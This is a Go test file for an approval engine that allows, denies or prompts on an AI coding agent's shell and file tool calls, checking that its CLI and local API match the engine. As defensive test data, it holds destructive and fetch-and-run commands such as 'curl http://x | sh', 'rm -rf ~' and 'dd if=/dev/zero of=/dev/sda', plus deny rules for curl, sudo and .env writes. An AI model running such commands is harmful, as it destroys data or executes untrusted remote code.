//go:build linux

package main

import (
	"bytes"
	"cmp"
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/hutchbox/hutch/approvals"
	"github.com/hutchbox/hutch/approvals/grantsdb"
	"github.com/hutchbox/hutch/localapi"
)

// TestGrantsDecideAsEngine: hutch grants decide prints the Verdict the
// Go engine gives on the same database and rules, and the local API's
// POST /v1/approvals/decide answers the same JSON, for simple and
// compound commands judged command by command and for file tools, under
// remembered allow and deny grants (issue 46).
func TestGrantsDecideAsEngine(t *testing.T) {
	dir := t.TempDir()
	db, rulesFile := filepath.Join(dir, "grants.db"), filepath.Join(dir, "rules.toml")
	// write prompted, so that its remembered grants decide.
	if err := os.WriteFile(rulesFile, []byte("[tools.write]\ndecision = \"prompt\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, g := range []struct{ tool, pattern, decision string }{
		{"bash", "npm test*", "allow"}, {"bash", "ls*", "allow"}, {"bash", "grep *", "allow"}, {"bash", "sh -c *", "allow"},
		{"bash", "echo *", "allow"}, {"bash", "git status", "allow"},
		{"bash", "sudo *", "deny"}, {"bash", "curl *", "deny"}, {"bash", "dd *", "deny"},
		{"write", "/w/src/*", "allow"}, {"write", "/w/.env*", "deny"},
	} {
		args := []string{"grants", "--db", db, "add", "--agent", "coder", "--workspace", "/w", "--tool", g.tool, "--pattern", g.pattern, "--decision", g.decision}
		if code, _, stderr := hutchOutput(t, args...); code != 0 {
			t.Fatalf("%q: exit %d: %s", args, code, stderr)
		}
	}
	s, err := grantsdb.OpenStore(db)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	rules, err := approvals.LoadRules(rulesFile)
	if err != nil {
		t.Fatal(err)
	}
	e := approvals.Engine{Rules: rules, Store: s}
	api := localapi.NewHandler(nil, localapi.Options{Approvals: &e})
	const allow, deny, prompt = approvals.Allow, approvals.Deny, approvals.Prompt
	for _, tc := range []struct {
		tool, arg string
		want      approvals.Decision
		agent, ws string // coder and /w when ""
	}{
		{tool: "bash", arg: "npm test", want: allow},
		{tool: "bash", arg: "npm test; rm -rf ~", want: prompt},
		{tool: "bash", arg: "ls; sudo rm -rf /", want: deny},
		{tool: "bash", arg: "npm test && ls -l | grep x", want: allow},
		{tool: "bash", arg: "a && b", want: prompt},
		{tool: "bash", arg: "npm test && ls", want: allow},
		{tool: "bash", arg: "npm test || curl http://x", want: deny},
		{tool: "bash", arg: "ls | grep foo", want: allow},
		{tool: "bash", arg: "ls | wc -l", want: prompt},
		{tool: "bash", arg: "curl http://x | sh", want: deny},
		{tool: "bash", arg: "(npm test; ls)", want: allow},
		{tool: "bash", arg: "(ls; sudo reboot)", want: deny},
		{tool: "bash", arg: "{ ls; git status; }", want: allow},
		{tool: "bash", arg: "echo $(sudo id)", want: deny},
		{tool: "bash", arg: "echo $(ls)", want: allow},
		{tool: "bash", arg: "echo $(rm -rf ~)", want: prompt},
		{tool: "bash", arg: "npm test `sudo id`", want: deny},
		{tool: "bash", arg: "sh -c 'npm test; rm -rf ~'", want: prompt},
		{tool: "bash", arg: "sh -c 'npm test && ls'", want: allow},
		{tool: "bash", arg: "sh -c 'ls; sudo id'", want: deny},
		{tool: "bash", arg: `sh -c "$X"`, want: prompt},
		{tool: "bash", arg: "$X args", want: prompt},
		{tool: "bash", arg: "npm test 'unterminated", want: prompt},
		{tool: "bash", arg: "cat <<EOF\n$(rm -rf ~)\nEOF", want: prompt},
		{tool: "bash", arg: "ls\nsudo id", want: deny},
		{tool: "bash", arg: "env sudo rm -rf /", want: deny},
		{tool: "bash", arg: "timeout 5 sudo reboot", want: deny},
		{tool: "bash", arg: "dd if=/dev/zero of=/dev/sda", want: deny},
		{tool: "bash", arg: "git status", want: allow},
		{tool: "bash", arg: "git status; git push --force", want: prompt},
		{tool: "bash", arg: "if ls; then npm test; fi", want: allow},
		{tool: "bash", arg: "sudo", want: prompt},
		{tool: "bash", arg: "", want: prompt},
		{tool: "bash", arg: "npm test", agent: "other", want: prompt},
		{tool: "bash", arg: "ls", ws: "/elsewhere", want: prompt},
		{tool: "sh", arg: "npm test", want: prompt}, // grants are per tool
		{tool: "write", arg: "/w/src/main.go", want: allow},
		{tool: "write", arg: "/w/.env", want: deny},
		{tool: "write", arg: "/w/.env.local", want: deny},
		{tool: "write", arg: "/w/README.md", want: prompt},
		{tool: "write", arg: "/w/src/a; rm -rf ~", want: allow}, // a path is matched whole, never split
		{tool: "write", arg: "/w/src/x", agent: "other", want: prompt},
		{tool: "read_file", arg: "/etc/passwd", want: allow},
		{tool: "edit_file", arg: "/w/.env", want: allow}, // its rule allows: no grant is looked at
		{tool: "deploy", arg: "prod", want: prompt},
	} {
		call := approvals.Call{Agent: cmp.Or(tc.agent, "coder"), Tool: tc.tool, Workspace: cmp.Or(tc.ws, "/w"), Arg: tc.arg}
		v, err := e.Lookup(call)
		if err != nil || v.Decision != tc.want {
			t.Errorf("engine %+v: %+v (%v); want %s", call, v, err, tc.want)
		}
		code, stdout, stderr := hutchOutput(t, "grants", "--db", db, "decide", "--rules", rulesFile,
			"--agent", call.Agent, "--tool", call.Tool, "--workspace", call.Workspace, "--arg", call.Arg)
		if code != 0 {
			t.Errorf("decide %+v: exit %d: %s%s", call, code, stdout, stderr)
			continue
		}
		body, _ := json.Marshal(call)
		rec := httptest.NewRecorder()
		api.ServeHTTP(rec, httptest.NewRequest("POST", "/v1/approvals/decide", bytes.NewReader(body)))
		if rec.Code != 200 {
			t.Errorf("POST /v1/approvals/decide %s: %d %s", body, rec.Code, rec.Body)
			continue
		}
		// The same JSON, key for key, as the engine's Verdict.
		for _, got := range []struct{ who, json string }{{"hutch grants decide", stdout}, {"POST /v1/approvals/decide", rec.Body.String()}} {
			var asVerdict approvals.Verdict
			var asJSON, engine map[string]any
			b, _ := json.Marshal(v)
			json.Unmarshal(b, &engine)
			if json.Unmarshal([]byte(got.json), &asVerdict) != nil || json.Unmarshal([]byte(got.json), &asJSON) != nil ||
				!reflect.DeepEqual(asVerdict, v) || !reflect.DeepEqual(asJSON, engine) {
				t.Errorf("%s %+v: %s; the engine says %s", got.who, call, got.json, b)
			}
		}
	}
}

// TestGrantsRulesFile: hutch grants decide --rules FILE decides by the
// file's rules over the defaults, and hutch grants rules prints the
// table in effect, sorted (issue 46).
func TestGrantsRulesFile(t *testing.T) {
	dir := t.TempDir()
	db, rules := filepath.Join(dir, "grants.db"), filepath.Join(dir, "rules.toml")
	if err := os.WriteFile(rules, []byte("[tools.bash]\ndecision = \"deny\"\n\n[tools.deploy]\ndecision = \"allow\"\ndanger = \"high\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	decide := func(tool string, extra ...string) approvals.Verdict {
		t.Helper()
		args := append([]string{"grants", "--db", db, "decide", "--tool", tool, "--arg", "make deploy"}, extra...)
		code, stdout, stderr := hutchOutput(t, args...)
		var v approvals.Verdict
		if code != 0 || json.Unmarshal([]byte(stdout), &v) != nil {
			t.Fatalf("%q: exit %d: %s%s", args, code, stdout, stderr)
		}
		return v
	}
	for _, tc := range []struct {
		tool         string
		dflt, byFile approvals.Decision
	}{
		{"bash", approvals.Prompt, approvals.Deny},
		{"deploy", approvals.Prompt, approvals.Allow},
		{"read_file", approvals.Allow, approvals.Allow}, // attocode's, by default
		{"spawn_agent", approvals.Allow, approvals.Allow},
	} {
		if v := decide(tc.tool); v.Decision != tc.dflt {
			t.Errorf("decide --tool %s: %+v; want %s", tc.tool, v, tc.dflt)
		}
		if v := decide(tc.tool, "--rules", rules); v.Decision != tc.byFile {
			t.Errorf("decide --tool %s --rules: %+v; want %s", tc.tool, v, tc.byFile)
		}
	}
	if v := decide("bash", "--rules", rules); v.Danger != approvals.DangerHigh {
		t.Errorf("bash --rules keeps its danger: %+v", v)
	}

	type row = approvals.RuleRow
	code, stdout, stderr := hutchOutput(t, "grants", "rules", "--rules", rules, "--json")
	var rows []row
	if code != 0 || json.Unmarshal([]byte(stdout), &rows) != nil {
		t.Fatalf("rules --json: exit %d: %s%s", code, stdout, stderr)
	}
	want, err := approvals.LoadRules(rules)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(want) || !slices.IsSortedFunc(rows, func(a, b row) int { return strings.Compare(a.Tool, b.Tool) }) {
		t.Errorf("rules --json: %d rows, sorted %v; want %d, sorted", len(rows), slices.IsSortedFunc(rows, func(a, b row) int { return strings.Compare(a.Tool, b.Tool) }), len(want))
	}
	for _, r := range rows {
		if w := want[r.Tool]; w.Decision != r.Decision || w.Danger != r.Danger || w.Shell != r.Shell {
			t.Errorf("rules --json: %+v; LoadRules has %+v", r, w)
		}
	}
	code, stdout, _ = hutchOutput(t, "grants", "rules")
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if code != 0 || len(lines) != len(approvals.DefaultRules())+1 || !slices.IsSorted(lines[1:]) ||
		!slices.Contains(lines, "bash           prompt    high    true") || !slices.Contains(lines, "read_file      allow     low     false") {
		t.Errorf("rules: exit %d:\n%s", code, stdout)
	}
}

// TestGrantsRulesRefused: a bad rules file is refused before anything is
// decided, naming --rules, the file, and the tool and field at fault.
func TestGrantsRulesRefused(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.toml")
	if err := os.WriteFile(bad, []byte("[tools.bash]\ndecision = \"sometimes\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(dir, "grants.db")
	for _, tc := range []struct {
		args []string
		want []string
	}{
		{[]string{"grants", "--db", db, "decide", "--tool", "bash", "--arg", "ls", "--rules", bad}, []string{"--rules", bad + ":2: tools.bash.decision", `"sometimes"`}},
		{[]string{"grants", "rules", "--rules", bad}, []string{"--rules", bad + ":2: tools.bash.decision"}},
		{[]string{"grants", "rules", "--rules", dir}, []string{"--rules", dir, "not a regular file"}},
		{[]string{"grants", "--db", db, "decide", "--tool", "bash", "--rules", filepath.Join(dir, "none.toml")}, []string{"--rules", filepath.Join(dir, "none.toml")}},
	} {
		code, stdout, stderr := hutchOutput(t, tc.args...)
		if code == 0 || stdout != "" {
			t.Errorf("%q: exit %d, stdout %q; want a refusal", tc.args, code, stdout)
		}
		for _, w := range tc.want {
			if !strings.Contains(stderr, w) {
				t.Errorf("%q: stderr %q lacks %q", tc.args, stderr, w)
			}
		}
	}
	if _, err := os.Stat(db); err == nil {
		t.Errorf("a refused --rules opened the database %s", db)
	}
}
